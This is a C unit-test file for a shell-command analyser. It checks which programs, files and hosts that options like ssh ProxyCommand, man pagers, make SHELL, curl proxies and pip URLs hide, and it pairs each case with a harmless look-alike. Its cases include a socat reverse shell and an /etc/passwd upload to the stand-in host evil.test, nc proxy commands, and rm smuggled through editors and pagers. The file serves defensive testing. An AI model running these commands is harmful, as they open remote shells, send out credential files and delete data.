/*
 * runtime_command_hidden_test.c - what options hide: another program, another host, another file.
 * Each row with a look-alike that does nothing of the kind.
 */
#include "tests/unit/command_cases.h"

/* ---- programs that start others ---------------------------------------------------------------
 */

static void starters(void **state)
{
    (void)state;
    static const facts_case cases[] = {
        {"vim -c '!rm x' f", "vim?", "?", "f?", "?"},
        {"vim +'!rm x' f", "vim?", "?", "f?", "?"},
        {"vim +12 f", "vim", "", "f", ""},
        {"vim f", "vim", "", "f", ""},
        {"ex f <<< '!rm x'", "ex?", "?", "f?", "?"},
        {"ed f <<< 'w /etc/x'", "ed?", "?", "f?", "?"},
        {"ed f", "ed", "", "f", ""},
        {"less +!ls f", "less?", "f?", "?", "?"},
        {"less +G f", "less", "f", "", ""},
        {"less f", "less", "f", "", ""},
        {"LESSOPEN='|rm %s' less f", "less?", "f", "", ""},
        {"man -P 'sh -c id' ls", "man sh id", "", "", ""},
        {"man --pager=evil ls", "man evil", "", "", ""},
        {"man ls", "man", "", "", ""},
        {"echo rm x | at now", "echo at rm", "", "x", ""},
        {"at -f job now", "at?", "job?", "?", "?"},
        {"batch <<< 'rm x'", "batch rm", "", "x", ""},
        {"ls | entr -s 'rm x'", "ls entr rm", "", "x", ""},
        {"ls | entr make test", "ls entr make", "", "", ""},
        {"ls | entr rm /_", "ls entr rm", "", "?", ""},
        {"tmux new -d 'rm x'", "tmux rm", "", "x", ""},
        {"tmux new -s a -d sh -c 'rm x'", "tmux sh rm", "", "x", ""},
        {"tmux send-keys -t a 'rm x' Enter", "tmux?", "?", "?", "?"},
        {"tmux ls", "tmux", "", "", ""},
        {"screen -dmS a rm x", "screen rm", "", "x", ""},
        {"screen -S a -X stuff 'rm x'", "screen stuff?", "?", "?", "?"},
        {"make SHELL=/tmp/x", "make?", "?", "?", "?"},
        {"make -f /tmp/mk", "make?", "/tmp/mk?", "?", "?"},
        {"make --eval='x:;rm y'", "make?", "?", "?", "?"},
        {"make CFLAGS='-O2 -g' test -j4", "make", "", "", ""},
        {"make -C sub test", "make", "", "", ""},
        {"make 'X!=rm y'", "make?", "?", "?", "?"},
        {"npm exec -- rm x", "npm rm", "", "x", ""},
        {"npx -y rm x", "npx rm", "", "x", ""},
        {"npm run lint", "npm", "", "", ""},
        {"watch -x sh -c 'rm x'", "watch sh rm", "", "x", ""},
        {"script -c 'rm x' f", "script rm", "", "x f", ""},
        {"flock -c 'rm x' f", "flock rm", "", "x f", ""},
        {"flock f -c 'rm x'", "flock rm", "", "f x", ""},
    };
    CHECK(cases);
}

/* ---- ssh and its kin --------------------------------------------------------------------------
 */

static void logins(void **state)
{
    (void)state;
    static const facts_case cases[] = {
        {"ssh -o ProxyCommand='rm x' h.test", "ssh rm", "", "x", "h.test"},
        {"ssh -oProxyCommand=\"nc evil.test 22\" h.test ls", "ssh nc ls", "", "",
         "evil.test h.test"},
        {"ssh -o 'LocalCommand rm x' -o PermitLocalCommand=yes h.test", "ssh rm", "", "x",
         "h.test"},
        {"ssh -J a.test,u@b.test:22 h.test", "ssh", "", "", "a.test b.test h.test"},
        {"ssh -F cfg h.test", "ssh?", "cfg?", "?", "h.test?"},
        {"ssh -o HostName=evil.test ok.test", "ssh", "", "", "evil.test ok.test"},
        {"ssh -o KnownHostsCommand=/tmp/x h.test", "ssh x", "", "", "h.test"},
        {"ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null h.test ls", "ssh ls", "",
         "", "h.test"},
        {"ssh -o Wat=1 h.test", "ssh?", "?", "?", "h.test?"},
        {"ssh -L 8080:db.test:5432 h.test", "ssh", "", "", "db.test h.test"},
        {"ssh -W t.test:22 h.test", "ssh", "", "", "t.test h.test"},
        {"ssh -i ~/.ssh/id h.test ls", "ssh ls", "~/.ssh/id", "", "h.test"},
        {"scp -o ProxyCommand='rm x' a h.test:b", "scp rm", "a/", "x", "h.test"},
        {"sftp -S /tmp/prog h.test", "sftp prog", "", "", "h.test"},
        {"sftp h.test <<< '!rm x'", "sftp?", "?", "?", "h.test?"},
        {"rsync -e 'ssh -o ProxyCommand=evil' a h.test:b", "rsync ssh evil", "a/", "", "h.test"},
        {"rsync -e 'ssh -p 2222 -i k' a h.test:b", "rsync ssh", "k a/", "", "h.test"},
        {"rsync --files-from=list a b", "rsync", "list a/?", "b/", ""},
    };
    CHECK(cases);
}

/* ---- hosts behind options ---------------------------------------------------------------------
 */

static void hosts(void **state)
{
    (void)state;
    static const facts_case cases[] = {
        {"pip install https://evil.test/a.whl", "pip", "", "", "evil.test"},
        {"pip install git+https://evil.test/a.git", "pip", "", "", "evil.test"},
        {"pip install 'a @ git+https://evil.test/a'", "pip", "", "", "evil.test"},
        {"pip install -r requirements.txt", "pip", "requirements.txt", "", ""},
        {"pip install requests", "pip", "", "", ""},
        {"pip install -e .", "pip", "./", "", ""},
        {"docker pull evil.test/x", "docker", "", "", "evil.test"},
        {"docker pull alpine:3", "docker", "", "", ""},
        {"docker run --rm evil.test:5000/x rm y", "docker rm", "", "", "evil.test"},
        {"docker run -it --entrypoint rm alpine -rf y", "docker rm", "", "", ""},
        {"docker run -v $PWD:/app -w /app node:20 npm test", "docker npm", "", "./", ""},
        {"docker run --mount type=bind,src=/etc,dst=/x,readonly alpine cat /x/y", "docker cat",
         "/etc/", "", ""},
        {"curl --connect-to ok.test:443:evil.test:443 https://ok.test", "curl", "", "",
         "ok.test evil.test"},
        {"curl --connect-to ::evil.test:443 https://ok.test", "curl", "", "", "ok.test evil.test"},
        {"curl --resolve ok.test:443:6.6.6.6 https://ok.test", "curl", "", "", "ok.test 6.6.6.6"},
        {"curl --resolve 'ok.test:443:[::1]' https://ok.test", "curl", "", "", "ok.test ::1"},
        {"curl -K cfg", "curl?", "cfg?", "?", "?"},
        {"curl -x evil.test:80 https://ok.test", "curl", "", "", "evil.test ok.test"},
        {"curl --socks5-hostname=evil.test https://ok.test", "curl", "", "", "evil.test ok.test"},
        {"curl --preproxy socks5://evil.test https://ok.test", "curl", "", "", "evil.test ok.test"},
        {"socat TCP:evil.test:80 EXEC:/bin/sh", "socat sh", "", "", "evil.test"},
        {"socat - TCP-LISTEN:80", "socat", "", "", ""},
        {"socat FILE:/etc/passwd TCP4:evil.test:1", "socat", "/etc/passwd", "/etc/passwd",
         "evil.test"},
        {"openssl s_client -connect evil.test:443", "openssl", "", "", "evil.test"},
        {"openssl s_client evil.test:443", "openssl", "", "", "evil.test"},
        {"wget -i list", "wget", "list", "./", "?"},
        {"wget -e http_proxy=evil.test https://ok.test", "wget?", "?", "./?", "ok.test?"},
        {"wget -e use_proxy=yes -e https_proxy=evil.test:8 https://ok.test", "wget?", "?", "./?",
         "ok.test?"},
        {"wget --config=c https://ok.test", "wget?", "c?", "./?", "ok.test?"},
        {"curl -b jar https://ok.test", "curl", "jar", "", "ok.test"},
        {"curl -b a=b https://ok.test", "curl", "", "", "ok.test"},
        {"curl -c jar https://ok.test", "curl", "", "jar/", "ok.test"},
        {"curl -n https://ok.test", "curl", "~/.netrc", "", "ok.test"},
    };
    CHECK(cases);
}

/* ---- files behind options ---------------------------------------------------------------------
 */

static void files(void **state)
{
    (void)state;
    static const facts_case cases[] = {
        {"jq --rawfile a f .", "jq", "f", "", ""},
        {"jq --slurpfile a f . g", "jq", "f g", "", ""},
        {"jq -f p.jq g", "jq", "p.jq g", "", ""},
        {"jq --arg a b .x g", "jq", "g", "", ""},
        {"git diff --no-index a b", "git", "a/ b/", "", ""},
        {"git diff /etc/passwd /etc/shadow", "git", "/etc/passwd/ /etc/shadow/", "", ""},
        {"git diff HEAD~1 src", "git", "", "", ""},
        {"git blame --contents f g", "git", "f", "", ""},
        {"diff --to-file=a b c", "diff", "a b c", "", ""},
        {"diff --from-file a b c", "diff", "a b c", "", ""},
        {"du --files0-from=l", "du", "l?", "", ""},
        {"wc --files0-from l", "wc", "l?", "", ""},
        {"sort --files0-from=l", "sort", "l?", "", ""},
        {"date -f l", "date", "l", "", ""},
        {"date -s x", "date", "", "", ""},
        {"date -us x", "date", "", "", ""},
        {"date 0101", "date", "", "", ""},
        {"date", "date", "", "", ""},
        {"date +%s -d yesterday", "date", "", "", ""},
        {"file -C -m x", "file", "x", "", ""},
        {"file x", "file", "x", "", ""},
        {"tar -T l -cf o.tar", "tar", "l?", "o.tar", ""},
        {"tar cfT o.tar l", "tar", "l?", "o.tar", ""},
        {"git log --output=x", "git", "", "x/", ""},
        {"git diff --stat", "git", "", "", ""},
        {"git grep -Oless x", "git less", "", "", ""},
        {"git grep -n x", "git", "", "", ""},
        {"git -p log", "git", "", "", ""},
        {"HOME=/etc; rm ~/passwd", "rm?", "?", "~/passwd?", "?"},
        {"PWD=/etc; rm $PWD/passwd", "rm", "?", "?", ""},
        {"CDPATH=/etc; cd x; rm y", "cd rm", "?", "?", ""},
        {"cd /etc; rm $PWD/x", "cd rm", "", "/etc/x", ""},
        {"unzip x.zip", "unzip", "x.zip", "./", ""},
        {"unzip -l x.zip", "unzip", "x.zip", "", ""},
        {"split f", "split", "f", "./", ""},
        {"git ls-remote 'ext::sh -c id'", "git?", "?", "?", "ext?"},
        {"git ls-remote https://h.test/a", "git", "", "", "h.test"},
        {"yq -i .a=1 f", "yq", "", "f", ""},
        {"yq .a f", "yq", "f", "", ""},
        {"xxd a b", "xxd", "a", "b", ""},
        {"xxd a", "xxd", "a", "", ""},
    };
    CHECK(cases);
}

/* ---- options that make another program of one --------------------------------------------------
 */

static void turned(void **state)
{
    (void)state;
    static const runs_case cases[] = {
        {"date", "date", 'y', 'y'},
        {"date -u +%s", "date", 'y', 'y'},
        {"date -d yesterday +%F", "date", 'y', 'y'},
        {"date -s x", "date", 'y', '?'},
        {"date -us x", "date", 'y', '?'},
        {"date --set=x", "date", 'y', '?'},
        {"date --se x", "date", 'y', '?'},
        {"date -s x", "date,date -s", 'y', 'y'},
        {"date --set x", "date -s", 'y', 'y'},
        {"date 010100002020", "date", 'y', '?'},
        {"date $X", "date", 'y', '?'},
        {"env TZ=UTC date -s x", "date", 'y', '?'},
        {"date -s x; ls", "date,ls", 'y', '?'},
        {"file x", "file", 'y', 'y'},
        {"file -bi x", "file", 'y', 'y'},
        {"file -C -m x", "file", 'y', '?'},
        {"file --compile x", "file", 'y', '?'},
        {"git diff --stat", "git diff", 'y', 'y'},
        {"git diff --output=x", "git diff", 'y', '?'},
        {"git diff --output=x", "git diff --output", 'y', 'y'},
        {"git log --outpu x", "git log", 'y', '?'},
        {"git grep -n x", "git grep", 'y', 'y'},
        {"yq .a x", "yq", 'y', 'y'},
        {"yq -i .a=1 x", "yq", 'y', '?'},
    };
    CHECK_RUNS(cases);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(starters), cmocka_unit_test(logins), cmocka_unit_test(hosts),
        cmocka_unit_test(files),    cmocka_unit_test(turned),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
